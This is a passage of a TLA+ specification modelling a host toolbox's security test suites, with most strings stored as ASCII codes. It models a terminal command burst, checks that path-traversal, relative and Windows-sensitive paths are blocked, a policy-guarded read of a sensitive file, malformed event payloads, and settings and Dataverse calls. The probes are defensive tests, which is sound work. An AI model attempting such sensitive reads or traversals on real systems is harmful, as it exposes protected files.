      [] suiteName = "events" -> "Events Suite Completed"
      [] suiteName = "settings" -> "Settings Suite Completed"
      [] suiteName = "dataverse" -> "Dataverse Suite Completed"

\* A capability call: what was called, with what, and how it settled
Call(api, argument) == [api |-> api, arg |-> argument, settled |-> "pending"]

Settled_StaysPending(calls, outcome) == calls

\* The call awaited, the last one made, settles
Settled(calls, outcome) ==
    IF calls = <<>> \/ calls[Len(calls)].settled # "pending" THEN calls
    ELSE [calls EXCEPT ![Len(calls)].settled = outcome]

SettledAs(resolved) == IF resolved THEN "resolved" ELSE "rejected"

\* A suite function is entered: "Running ..." is written, results = []
Called(suiteName) == pc = "call" /\ local.suite = suiteName

Started(suiteName) == Append(progress, <<"start", suiteName>>)

RunningOutput(suiteName) == [output EXCEPT ![OutputIdOf(suiteName)] = WriteText(@, "running")]

\* The tail of every suite: render, then notify and return, or return
RenderAndFinish_NoRender(suiteName, array, out, prog) ==
    /\ results' = array
    /\ output' = out
    /\ notifications' = notifications
    /\ pc' = IF showNotificationOnFinish THEN "done" ELSE "returned"
    /\ returned' = Append(returned, [suite |-> suiteName, results |-> array])
    /\ progress' = Append(prog, <<"return", suiteName>>)

RenderAndFinish(suiteName, array, out, prog) ==
    \E r \in {renderSuiteReport(suiteName, array)} :
        /\ results' = r.array
        /\ output' = [out EXCEPT ![OutputIdOf(suiteName)] = WriteReport(@, r.report)]
        /\ IF showNotificationOnFinish
           THEN /\ notifications' = Append(notifications,
                        Notification(CompletedTitle(suiteName),
                                     IF r.value.failed > 0 THEN "warning" ELSE "success",
                                     r.value.failed))
                /\ pc' = "suite_notify"
                /\ returned' = returned
                /\ progress' = prog
           ELSE /\ notifications' = notifications
                /\ pc' = "returned"
                /\ returned' = Append(returned, [suite |-> suiteName, results |-> r.array])
                /\ progress' = Append(prog, <<"return", suiteName>>)

\* await deps.showNotification(...) of a standalone run settles; the suite
\* returns its results and the entry point completes
SuiteNotified ==
    /\ pc = "suite_notify"
    /\ pc' = "done"
    /\ returned' = Append(returned, [suite |-> local.suite, results |-> results])
    /\ progress' = Append(progress, <<"return", local.suite>>)
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, results, local, output,
                   suiteCalls, notifications>>

(* runTerminalSecuritySuite (policy.ts 268-384)                            *)

\* The ids the host gives to the terminals it creates, in order of creation
TerminalNames == <<"terminal-1", "terminal-2", "terminal-3", "terminal-4", "terminal-5", "terminal-6">>

NewTerminal == TerminalNames[Cardinality(openTerminals \cup closedTerminals) + 1]

setCurrentTerminal_Discards(t) == "none"

\* setCurrentTerminal: (t) => { currentTerminal = t; } (README 466-468)
setCurrentTerminal(t) == t

BurstLength == 5

BurstProbeName == <<116, 101, 114, 109, 105, 110, 97, 108, 95, 98, 117, 114, 115, 116, 95, 112, 114, 111, 98, 101>>

\* The next command of the burst goes to the guarded wrapper, which asks
\* the policy and, if allowed, calls toolbox.terminal.execute with the id of
\* the terminal the suite read at line 358
SendBurstCommand(calls, terminal) ==
    \E r \in {executeCommandWithPolicyGuard(terminal, ProbeCommand, FALSE)} :
        /\ suiteCalls' = IF r.calls = {} THEN calls
                         ELSE Append(calls, Call("terminal.execute", ProbeCommand))
        /\ executeCalls' = executeCalls \cup r.calls
        /\ local' = [local EXCEPT !.sent = @ + 1, !.terminal = terminal]
        /\ pc' = "terminal_execute"

\* const terminal = deps.getCurrentTerminal() (358): without a terminal the
\* probe fails (359-360), with one the burst begins (362-364)
BeginBurst(calls) ==
    IF currentTerminal = "none"
    THEN /\ RenderAndFinish("terminal",
                 addSecurityResult(results, BurstProbeName, "fail", "medium",
                                   <<67, 111, 117, 108, 100, 32, 110, 111, 116, 32, 99, 114, 101, 97, 116, 101, 32, 116, 101, 114, 109, 105, 110, 97, 108, 32, 102, 111, 114, 32, 98, 117, 114, 115, 116, 32, 112, 114, 111, 98, 101>>),
                 output, progress)
         /\ suiteCalls' = calls
         /\ UNCHANGED <<executeCalls, local>>
    ELSE /\ SendBurstCommand(calls, currentTerminal)
         /\ UNCHANGED <<results, output, notifications, progress, returned>>

StartTerminalSuite ==
    /\ Called("terminal")
    /\ results' = TerminalPolicyChecks
    /\ output' = RunningOutput("terminal")
    /\ progress' = Started("terminal")
    /\ IF currentTerminal = "none"
       THEN \* deps.createTerminal() calls toolbox.terminal.create (line 999)
            /\ suiteCalls' = <<Call("terminal.create", <<>>)>>
            /\ pc' = "terminal_create"
            /\ UNCHANGED <<local, executeCalls>>
       ELSE SendBurstCommand(<<>>, currentTerminal)
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, status, ret, readTextCalls>>
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, notifications, returned>>

\* toolbox.terminal.create settles.  Resolved: the terminal becomes current
\* and "Terminal Created" is notified (1003-1014).  Rejected: createTerminal
\* logs and returns (1015-1017), and the suite reads the current terminal.
TerminalCreateSettles ==
    /\ pc = "terminal_create"
    /\ \E resolved \in BOOLEAN, terminal \in {NewTerminal} :
           IF resolved
           THEN /\ currentTerminal' = setCurrentTerminal(terminal)
                /\ openTerminals' = openTerminals \cup {terminal}
                /\ notifications' = Append(notifications,
                                           Notification("Terminal Created", "success", 0))
                /\ pc' = "terminal_created_notify"
                /\ suiteCalls' = Settled(suiteCalls, "resolved")
                /\ UNCHANGED <<results, output, progress, returned, executeCalls, local>>
           ELSE /\ BeginBurst(Settled(suiteCalls, "rejected"))
                /\ UNCHANGED <<currentTerminal, openTerminals>>
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, status, ret, readTextCalls>>
    /\ UNCHANGED <<pageVars, closedTerminals, ui, store, invoked, entry, host, currentConnection>>

\* The "Terminal Created" notification settles, createTerminal returns and
\* the suite reads the current terminal (358)
TerminalCreatedNotified ==
    /\ pc = "terminal_created_notify"
    /\ BeginBurst(suiteCalls)
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, status, ret, readTextCalls>>
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection>>

\* A guarded execute of the burst settles: the next command is sent, or the
\* burst passes after the fifth, or the rejection is caught (368-370)
TerminalExecuteSettles ==
    /\ pc = "terminal_execute"
    /\ \E capabilityRejects \in BOOLEAN :
           \E r \in {executeCommandWithPolicyGuard(local.terminal, ProbeCommand, capabilityRejects)} :
               IF r.status = "threw"
               THEN /\ RenderAndFinish("terminal",
                            addSecurityResult(results, BurstProbeName, "fail", "medium",
                                              <<66, 117, 114, 115, 116, 32, 112, 114, 111, 98, 101, 32, 101, 114, 114, 111, 114, 58, 32>> \o r.value.text),
                            output, progress)
                    /\ suiteCalls' = Settled(suiteCalls, "rejected")
                    /\ UNCHANGED <<executeCalls, local>>
               ELSE IF local.sent < BurstLength
               THEN /\ SendBurstCommand(Settled(suiteCalls, "resolved"), local.terminal)
                    /\ UNCHANGED <<results, output, notifications, progress, returned>>
               ELSE /\ RenderAndFinish("terminal",
                            addSecurityResult(results, BurstProbeName, "pass", "medium",
                                <<66, 117, 114, 115, 116, 32, 111, 102, 32, 114, 97, 112, 105, 100, 32, 99, 111, 109, 109, 97, 110, 100, 115, 32, 112, 114, 111, 99, 101, 115, 115, 101, 100, 32, 119, 105, 116, 104, 111, 117, 116, 32, 97, 112, 112, 32, 99, 114, 97, 115, 104>>),
                            output, progress)
                    /\ suiteCalls' = Settled(suiteCalls, "resolved")
                    /\ UNCHANGED <<executeCalls, local>>
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, status, ret, readTextCalls>>
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection>>

\* requiredMethods.filter((name) => typeof api?.[name] !== "function")
MissingMethods(requiredMethods, present) ==
    SelectSeq(requiredMethods, LAMBDA name : name \notin present)

\* Array.prototype.join(", ")
RECURSIVE Join(_)
Join(names) ==
    IF names = <<>> THEN <<>>
    ELSE IF Len(names) = 1 THEN names[1]
    ELSE names[1] \o <<44, 32>> \o Join(Tail(names))

ApiSurfaceCheck(name, requiredMethods, present, passText) ==
    LET missing == MissingMethods(requiredMethods, present)
    IN  SecuritySuiteResult(name, IF missing = <<>> THEN "pass" ELSE "fail", "medium",
                            IF missing = <<>> THEN passText
                            ELSE <<77, 105, 115, 115, 105, 110, 103, 32, 109, 101, 116, 104, 111, 100, 115, 58, 32>> \o Join(missing))

(* runFileSystemSecuritySuite (policy.ts 386-440)                          *)

PathBlockedCheck(name, filePath, severity, passText, failText) ==
    LET blocked == ~getBlockedPathReason(filePath).isNull
    IN  SecuritySuiteResult(name, IF blocked THEN "pass" ELSE "fail", severity,
                            IF blocked THEN passText ELSE failText)

FileSystemPolicyChecks ==
    << PathBlockedCheck(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 114, 101, 113, 117, 105, 114, 101, 115, 95, 97, 98, 115, 111, 108, 117, 116, 101, 95, 112, 97, 116, 104>>, RelativePath, "high",
           <<82, 101, 108, 97, 116, 105, 118, 101, 32, 112, 97, 116, 104, 32, 114, 101, 106, 101, 99, 116, 101, 100>>, <<82, 101, 108, 97, 116, 105, 118, 101, 32, 112, 97, 116, 104, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 32, 97, 108, 108, 111, 119, 101, 100>>),
       PathBlockedCheck(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 116, 114, 97, 118, 101, 114, 115, 97, 108, 95, 98, 108, 111, 99, 107>>, TraversalPath, "critical",
           <<80, 97, 116, 104, 32, 116, 114, 97, 118, 101, 114, 115, 97, 108, 32, 114, 101, 106, 101, 99, 116, 101, 100>>, <<80, 97, 116, 104, 32, 116, 114, 97, 118, 101, 114, 115, 97, 108, 32, 119, 97, 115, 32, 110, 111, 116, 32, 98, 108, 111, 99, 107, 101, 100>>),
       PathBlockedCheck(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 119, 105, 110, 100, 111, 119, 115, 95, 115, 101, 110, 115, 105, 116, 105, 118, 101, 95, 98, 108, 111, 99, 107>>, WindowsSensitivePath, "critical",
           <<87, 105, 110, 100, 111, 119, 115, 32, 115, 101, 110, 115, 105, 116, 105, 118, 101, 32, 112, 97, 116, 104, 32, 98, 108, 111, 99, 107, 101, 100>>, <<87, 105, 110, 100, 111, 119, 115, 32, 115, 101, 110, 115, 105, 116, 105, 118, 101, 32, 112, 97, 116, 104, 32, 119, 97, 115, 32, 110, 111, 116, 32, 98, 108, 111, 99, 107, 101, 100>>) >>

FileSystemRequiredMethods ==
    <<<<114, 101, 97, 100, 84, 101, 120, 116>>, <<114, 101, 97, 100, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<99, 114, 101, 97, 116, 101, 68, 105, 114, 101, 99, 116, 111, 114, 121>>, <<115, 97, 118, 101, 70, 105, 108, 101>>, <<115, 101, 108, 101, 99, 116, 80, 97, 116, 104>>>>

\* Up to "await readTextWithPolicyGuard(...)" (414): the wrapper asks the
\* policy and, if allowed, calls toolbox.fileSystem.readText
StartFileSystemSuite ==
    /\ Called("filesystem")
    /\ results' = FileSystemPolicyChecks
    /\ output' = RunningOutput("filesystem")
    /\ progress' = Started("filesystem")
    /\ \E r \in {readTextWithPolicyGuard(SensitiveReadPath, FALSE)} :
           /\ suiteCalls' = IF r.calls = {} THEN <<>>
                            ELSE <<Call("fileSystem.readText", SensitiveReadPath)>>
           /\ readTextCalls' = readTextCalls \cup r.calls
    /\ pc' = "filesystem_read"
    /\ UNCHANGED <<heap, callerRefs, startup, fn, arg, status, ret, executeCalls>>
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local, notifications,
                   returned>>

\* The guarded read settles (415-417), then the surface check (420-429)
FileSystemReadSettles ==
    /\ pc = "filesystem_read"
    /\ \E capabilityRejects \in BOOLEAN :
         \E r \in {readTextWithPolicyGuard(SensitiveReadPath, capabilityRejects)} :
           LET read == IF r.status = "returned"
                       THEN SecuritySuiteResult(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 103, 117, 97, 114, 100, 101, 100, 95, 114, 101, 97, 100, 95, 98, 108, 111, 99, 107>>, "fail",
                                "critical", <<83, 101, 110, 115, 105, 116, 105, 118, 101, 32, 114, 101, 97, 100, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 108, 121, 32, 97, 108, 108, 111, 119, 101, 100>>)
                       ELSE SecuritySuiteResult(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 103, 117, 97, 114, 100, 101, 100, 95, 114, 101, 97, 100, 95, 98, 108, 111, 99, 107>>, "pass",
                                "critical", <<83, 101, 110, 115, 105, 116, 105, 118, 101, 32, 114, 101, 97, 100, 32, 98, 108, 111, 99, 107, 101, 100, 32, 98, 121, 32, 112, 111, 108, 105, 99, 121, 32, 103, 117, 97, 114, 100>>)
               surface == ApiSurfaceCheck(<<102, 105, 108, 101, 115, 121, 115, 116, 101, 109, 95, 97, 112, 105, 95, 115, 117, 114, 102, 97, 99, 101>>, FileSystemRequiredMethods,
                              host.fileSystem, <<65, 108, 108, 32, 114, 101, 113, 117, 105, 114, 101, 100, 32, 102, 105, 108, 101, 83, 121, 115, 116, 101, 109, 32, 109, 101, 116, 104, 111, 100, 115, 32, 112, 114, 101, 115, 101, 110, 116>>)
           IN  /\ RenderAndFinish("filesystem", Append(Append(results, read), surface),
                                  output, progress)
               /\ suiteCalls' = Settled(suiteCalls, SettledAs(r.status = "returned"))
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

(* runEventsSecuritySuite (policy.ts 442-480)                              *)

\* A value a terminal event may carry.  typeof tells its type; "falsy" tells
\* whether !data holds (0, NaN, "", false; undefined and null always); an
\* object carries the properties the handlers read, each defined or not.
NoProperty == [defined |-> FALSE, text |-> <<>>]

Property(text) == [defined |-> TRUE, text |-> text]

Primitive(type, falsy) ==
    [type |-> type, falsy |-> falsy, terminalId |-> "undefined",
     data |-> NoProperty, exitCode |-> NoProperty]

Undefined == Primitive("undefined", TRUE)

JsNull == Primitive("null", TRUE)

Object(terminalId, data, exitCode) ==
    [type |-> "object", falsy |-> FALSE, terminalId |-> terminalId,
     data |-> data, exitCode |-> exitCode]

\* typeof data: typeof null is "object"
TypeOf(data) == IF data.type = "null" THEN "object" ELSE data.type

\* data.terminalId raises a TypeError when data is undefined or null
PropertyReadThrows(data) == data.type \in {"undefined", "null"}

\* String(value) as += applies it
ToText(value) == IF value.defined THEN value.text ELSE <<117, 110, 100, 101, 102, 105, 110, 101, 100>>

IsMalformed_Never(data) == FALSE

\* !data || typeof data !== "object" (1112, 1124)
IsMalformed(data) == data.falsy \/ TypeOf(data) # "object"

\* handleTerminalOutput, handleCommandCompleted (1111-1133): whether the
\* call throws, and the terminal output element after it
HandlerOutcome(data, element, appended) ==
    IF IsMalformed(data) THEN [threw |-> FALSE, element |-> element]
    ELSE IF currentTerminal = "none" THEN [threw |-> FALSE, element |-> element]
    ELSE IF PropertyReadThrows(data) THEN [threw |-> TRUE, element |-> element]
    ELSE IF data.terminalId # currentTerminal THEN [threw |-> FALSE, element |-> element]
    ELSE IF element.present
         THEN [threw |-> FALSE,
               element |-> [element EXCEPT !.textContent = @ \o appended]]
         ELSE [threw |-> FALSE, element |-> element]

handleTerminalOutput(data, element) ==
    HandlerOutcome(data, element, ToText(data.data))

handleCommandCompleted(data, element) ==
    HandlerOutcome(data, element,
        <<10>> \o <<91, 67, 111, 109, 109, 97, 110, 100, 32, 99, 111, 109, 112, 108, 101, 116, 101, 100, 32, 119, 105, 116, 104, 32, 101, 120, 105, 116, 32, 99, 111, 100, 101, 58, 32>> \o ToText(data.exitCode) \o <<93>> \o <<10>>)

EventsSubscriptionCheck_PassLowOnThrow(throws) ==
    SecuritySuiteResult(<<101, 118, 101, 110, 116, 115, 95, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 95, 99, 97, 108, 108>>, "pass", "low",
                        <<69, 118, 101, 110, 116, 32, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 32, 99, 97, 108, 108, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100>>)

\* deps.toolbox.events.on(() => {}) inside try (450-455); throws: whether
\* this call of an existing events.on throws
EventsSubscriptionCheck(throws) ==
    CASE host.events = "on" /\ ~throws ->
             SecuritySuiteResult(<<101, 118, 101, 110, 116, 115, 95, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 95, 99, 97, 108, 108>>, "pass", "low",
                                 <<69, 118, 101, 110, 116, 32, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 32, 99, 97, 108, 108, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100>>)
      [] host.events = "on_throws" \/ (host.events = "on" /\ throws) ->
             SecuritySuiteResult(<<101, 118, 101, 110, 116, 115, 95, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 95, 99, 97, 108, 108>>, "fail", "medium",
                                 <<83, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o CapabilityError)
      [] host.events \in {"on_missing", "missing"} ->
             SecuritySuiteResult(<<101, 118, 101, 110, 116, 115, 95, 115, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 95, 99, 97, 108, 108>>, "fail", "medium",
                                 <<83, 117, 98, 115, 99, 114, 105, 112, 116, 105, 111, 110, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o NotAFunction)

MalformedPayloadCheck(name, outcome, passText, failText) ==
    IF outcome.threw
    THEN SecuritySuiteResult(name, "fail", "high", failText)
    ELSE SecuritySuiteResult(name, "pass", "high", passText)

EventsChecks(throws, outputHandled, completedHandled) ==
    LET eventsApiExists == host.events \in {"on", "on_throws"}
    IN  << SecuritySuiteResult(<<101, 118, 101, 110, 116, 115, 95, 97, 112, 105, 95, 101, 120, 105, 115, 116, 115>>,
               IF eventsApiExists THEN "pass" ELSE "fail", "medium",
               IF eventsApiExists THEN <<101, 118, 101, 110, 116, 115, 46, 111, 110, 32, 105, 115, 32, 97, 118, 97, 105, 108, 97, 98, 108, 101>>
               ELSE <<101, 118, 101, 110, 116, 115, 46, 111, 110, 32, 105, 115, 32, 110, 111, 116, 32, 97, 118, 97, 105, 108, 97, 98, 108, 101>>),
           EventsSubscriptionCheck(throws),
           MalformedPayloadCheck(<<101, 118, 101, 110, 116, 115, 95, 109, 97, 108, 102, 111, 114, 109, 101, 100, 95, 116, 101, 114, 109, 105, 110, 97, 108, 95, 111, 117, 116, 112, 117, 116>>,
               outputHandled,
               <<77, 97, 108, 102, 111, 114, 109, 101, 100, 32, 111, 117, 116, 112, 117, 116, 32, 112, 97, 121, 108, 111, 97, 100, 32, 104, 97, 110, 100, 108, 101, 100, 32, 115, 97, 102, 101, 108, 121>>,
               <<77, 97, 108, 102, 111, 114, 109, 101, 100, 32, 111, 117, 116, 112, 117, 116, 32, 112, 97, 121, 108, 111, 97, 100, 32, 99, 114, 97, 115, 104, 101, 100, 32, 104, 97, 110, 100, 108, 101, 114, 58, 32>>),
           MalformedPayloadCheck(<<101, 118, 101, 110, 116, 115, 95, 109, 97, 108, 102, 111, 114, 109, 101, 100, 95, 116, 101, 114, 109, 105, 110, 97, 108, 95, 99, 111, 109, 112, 108, 101, 116, 101, 100>>,
               completedHandled,
               <<77, 97, 108, 102, 111, 114, 109, 101, 100, 32, 99, 111, 109, 112, 108, 101, 116, 105, 111, 110, 32, 112, 97, 121, 108, 111, 97, 100, 32, 104, 97, 110, 100, 108, 101, 100, 32, 115, 97, 102, 101, 108, 121>>,
               <<77, 97, 108, 102, 111, 114, 109, 101, 100, 32, 99, 111, 109, 112, 108, 101, 116, 105, 111, 110, 32, 112, 97, 121, 108, 111, 97, 100, 32, 99, 114, 97, 115, 104, 101, 100, 32, 104, 97, 110, 100, 108, 101, 114, 58, 32>>) >>

\* The events suite awaits nothing before its report
RunEventsSuite ==
    /\ Called("events")
    /\ \E throws \in IF host.events = "on" THEN BOOLEAN ELSE {host.events = "on_throws"} :
       \E outputHandled \in {handleTerminalOutput(Undefined, terminalOutput)} :
       \E completedHandled \in {handleCommandCompleted(Undefined, outputHandled.element)} :
           /\ suiteCalls' = IF host.events \in {"on", "on_throws"}
                            THEN Settled(<<Call("events.on", <<>>)>>, SettledAs(~throws))
                            ELSE <<>>
           /\ RenderAndFinish("events", EventsChecks(throws, outputHandled, completedHandled),
                              RunningOutput("events"), Started("events"))
           /\ terminalOutput' = completedHandled.element
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<handled, terminalVars, store, invoked, entry, host, currentTerminal, currentConnection, local>>

(* runSettingsSecuritySuite (policy.ts 482-540)                            *)

\* What the calls of the suite do to the store of a host that resolves them:
\* set(key, value) (500), setAll({one: 1, two: 2}) (506), which either adds
\* the two keys to the store or replaces the store by them, delete(key) (524)
StoreSet(settings, key, value) == [settings EXCEPT ![key] = value]

StoreSetAll(settings, replaces) ==
    [key \in SettingsKeys |->
        IF key = BatchKeys[1] THEN "one"
        ELSE IF key = BatchKeys[2] THEN "two"
        ELSE IF replaces THEN "absent" ELSE settings[key]]

StoreDelete_Keeps(settings, key) == settings

StoreDelete(settings, key) == [settings EXCEPT ![key] = "absent"]

SettingsHas_NeverDelete(name) ==
    host.settings.present /\ name \in host.settings.methods \ {<<100, 101, 108, 101, 116, 101>>}

SettingsHas(name) == host.settings.present /\ name \in host.settings.methods

\* finally (521-529): delete the scratch key if the host has delete
SettingsFinally(array, calls, out, prog) ==
    IF SettingsHas(<<100, 101, 108, 101, 116, 101>>)
    THEN /\ results' = array
         /\ suiteCalls' = Append(calls, Call("settings.delete", tempKey))
         /\ pc' = "settings_delete"
         /\ output' = out
         /\ progress' = prog
         /\ UNCHANGED <<notifications, returned>>
    ELSE /\ RenderAndFinish("settings", array, out, prog)
         /\ suiteCalls' = calls

\* catch (519-520): whatever was thrown inside the try
SettingsCatch(array, message, calls, out, prog) ==
    SettingsFinally(
        addSecurityResult(array, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 114, 111, 117, 110, 100, 116, 114, 105, 112>>, "fail", "medium",
                          <<83, 101, 116, 116, 105, 110, 103, 115, 32, 111, 112, 101, 114, 97, 116, 105, 111, 110, 32, 102, 97, 105, 108, 101, 100, 58, 32>> \o message),
        calls, out, prog)

SettingsAwait(api, argument, at) ==
    /\ suiteCalls' = Append(Settled(suiteCalls, "resolved"), Call(api, argument))
    /\ pc' = at
    /\ UNCHANGED <<output, progress, notifications, returned>>

StartSettingsSuite ==
    /\ Called("settings")
    /\ LET surface == ApiSurfaceCheck(<<115, 101, 116, 116, 105, 110, 103, 115, 95, 97, 112, 105, 95, 115, 117, 114, 102, 97, 99, 101>>, <<<<103, 101, 116>>, <<115, 101, 116>>>>,
                          IF host.settings.present THEN host.settings.methods ELSE {},
                          <<82, 101, 113, 117, 105, 114, 101, 100, 32, 115, 101, 116, 116, 105, 110, 103, 115, 32, 109, 101, 116, 104, 111, 100, 115, 32, 97, 118, 97, 105, 108, 97, 98, 108, 101>>)
       IN  IF SettingsHas(<<115, 101, 116>>)
           THEN /\ results' = <<surface>>
                /\ suiteCalls' = <<Call("settings.set", tempKey)>>
                /\ pc' = "settings_set"
                /\ output' = RunningOutput("settings")
                /\ progress' = Started("settings")
                /\ UNCHANGED <<notifications, returned>>
           ELSE SettingsCatch(<<surface>>, NotAFunction, <<>>,
                              RunningOutput("settings"), Started("settings"))
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

SettingsSetSettles ==
    /\ pc = "settings_set"
    /\ \E resolved \in BOOLEAN :
           /\ IF ~resolved
              THEN SettingsCatch(results, CapabilityError, Settled(suiteCalls, "rejected"),
                                 output, progress)
              ELSE IF SettingsHas(<<103, 101, 116>>)
              THEN SettingsAwait("settings.get", tempKey, "settings_get") /\ UNCHANGED results
              ELSE SettingsCatch(results, NotAFunction, Settled(suiteCalls, "resolved"),
                                 output, progress)
           /\ store' = IF resolved THEN StoreSet(store, tempKey, "scratch") ELSE store
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, terminalVars, invoked, entry, host, currentTerminal,
                   currentConnection, local>>

\* get settles: rejected, or resolved with the value saved or another one
SettingsGetSettles ==
    /\ pc = "settings_get"
    /\ \E outcome \in {"saved", "other", "rejected"} :
           LET valid == outcome = "saved"
               roundtrip == addSecurityResult(results, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 114, 111, 117, 110, 100, 116, 114, 105, 112>>,
                                IF valid THEN "pass" ELSE "fail", "medium",
                                IF valid THEN <<115, 101, 116, 47, 103, 101, 116, 32, 114, 111, 117, 110, 100, 116, 114, 105, 112, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100>>
                                ELSE <<115, 101, 116, 47, 103, 101, 116, 32, 114, 111, 117, 110, 100, 116, 114, 105, 112, 32, 114, 101, 116, 117, 114, 110, 101, 100, 32, 117, 110, 101, 120, 112, 101, 99, 116, 101, 100, 32, 118, 97, 108, 117, 101>>)
           IN  IF outcome = "rejected"
               THEN SettingsCatch(results, CapabilityError, Settled(suiteCalls, "rejected"),
                                  output, progress)
               ELSE IF SettingsHas(<<115, 101, 116, 65, 108, 108>>) /\ SettingsHas(<<103, 101, 116, 65, 108, 108>>)
               THEN /\ SettingsAwait("settings.setAll", Join(BatchKeys), "settings_setAll")
                    /\ results' = roundtrip
               ELSE SettingsFinally(
                        addSecurityResult(roundtrip, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 98, 97, 116, 99, 104, 95, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115>>, "pass", "low",
                            <<115, 101, 116, 65, 108, 108, 47, 103, 101, 116, 65, 108, 108, 32, 110, 111, 116, 32, 97, 118, 97, 105, 108, 97, 98, 108, 101, 32, 105, 110, 32, 116, 104, 105, 115, 32, 104, 111, 115, 116, 32, 98, 117, 105, 108, 100, 59, 32, 115, 107, 105, 112, 112, 101, 100>>),
                        Settled(suiteCalls, "resolved"), output, progress)
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

SettingsSetAllSettles ==
    /\ pc = "settings_setAll"
    /\ \E resolved \in BOOLEAN :
           IF resolved
           THEN /\ SettingsAwait("settings.getAll", <<>>, "settings_getAll")
                /\ UNCHANGED results
                /\ \E replaces \in BOOLEAN : store' = StoreSetAll(store, replaces)
           ELSE /\ SettingsCatch(results, CapabilityError, Settled(suiteCalls, "rejected"),
                                 output, progress)
                /\ UNCHANGED store
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, terminalVars, invoked, entry, host, currentTerminal,
                   currentConnection, local>>

SettingsGetAllSettles ==
    /\ pc = "settings_getAll"
    /\ \E outcome \in {"batch", "other", "rejected"} :
           LET hasBatchValues == outcome = "batch"
           IN  IF outcome = "rejected"
               THEN SettingsCatch(results, CapabilityError, Settled(suiteCalls, "rejected"),
                                  output, progress)
               ELSE SettingsFinally(
                        addSecurityResult(results, <<115, 101, 116, 116, 105, 110, 103, 115, 95, 98, 97, 116, 99, 104, 95, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115>>,
                            IF hasBatchValues THEN "pass" ELSE "fail", "low",
                            IF hasBatchValues THEN <<115, 101, 116, 65, 108, 108, 47, 103, 101, 116, 65, 108, 108, 32, 98, 97, 116, 99, 104, 32, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115, 32, 115, 117, 99, 99, 101, 101, 100, 101, 100>>
                            ELSE <<66, 97, 116, 99, 104, 32, 111, 112, 101, 114, 97, 116, 105, 111, 110, 115, 32, 100, 105, 100, 32, 110, 111, 116, 32, 112, 101, 114, 115, 105, 115, 116, 32, 101, 120, 112, 101, 99, 116, 101, 100, 32, 118, 97, 108, 117, 101, 115>>),
                        Settled(suiteCalls, "resolved"), output, progress)
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<glueVars, entry, host, currentTerminal, currentConnection, local>>

\* delete settles; a rejection is swallowed (526-528)
SettingsDeleteSettles ==
    /\ pc = "settings_delete"
    /\ \E resolved \in BOOLEAN :
           /\ RenderAndFinish("settings", results, output, progress)
           /\ suiteCalls' = Settled(suiteCalls, SettledAs(resolved))
           /\ store' = IF resolved THEN StoreDelete(store, tempKey) ELSE store
    /\ UNCHANGED policyVars
    /\ UNCHANGED <<pageVars, terminalVars, invoked, entry, host, currentTerminal,
                   currentConnection, local>>

(* runDataverseSecuritySuite (policy.ts 542-591)                           *)

DataverseRequiredMethods ==
    <<<<102, 101, 116, 99, 104, 88, 109, 108, 81, 117, 101, 114, 121>>, <<113, 117, 101, 114, 121, 68, 97, 116, 97>>, <<101, 120, 101, 99, 117, 116, 101>>, <<103, 101, 116, 69, 110, 116, 105, 116, 121, 77, 101, 116, 97, 100, 97, 116, 97>>>>

WhoAmIRequest == <<87, 104, 111, 65, 109, 73>>

AccountsQuery == <<97, 99, 99, 111, 117, 110, 116, 115, 63, 36, 115, 101, 108, 101, 99, 116, 61, 110, 97, 109, 101, 44, 97, 99, 99, 111, 117, 110, 116, 105, 100, 38, 36, 116, 111, 112, 61, 49>>

\* The second try (567-579): queryData is called, or the TypeError is caught
DataverseQuery(array, calls, out, prog) ==
    IF <<113, 117, 101, 114, 121, 68, 97, 116, 97>> \in host.dataverse
    THEN /\ results' = array
         /\ suiteCalls' = Append(calls, Call("dataverse.queryData", AccountsQuery))
         /\ pc' = "dataverse_query"
         /\ output' = out
         /\ progress' = prog
         /\ UNCHANGED <<notifications, returned>>
    ELSE /\ RenderAndFinish("dataverse",
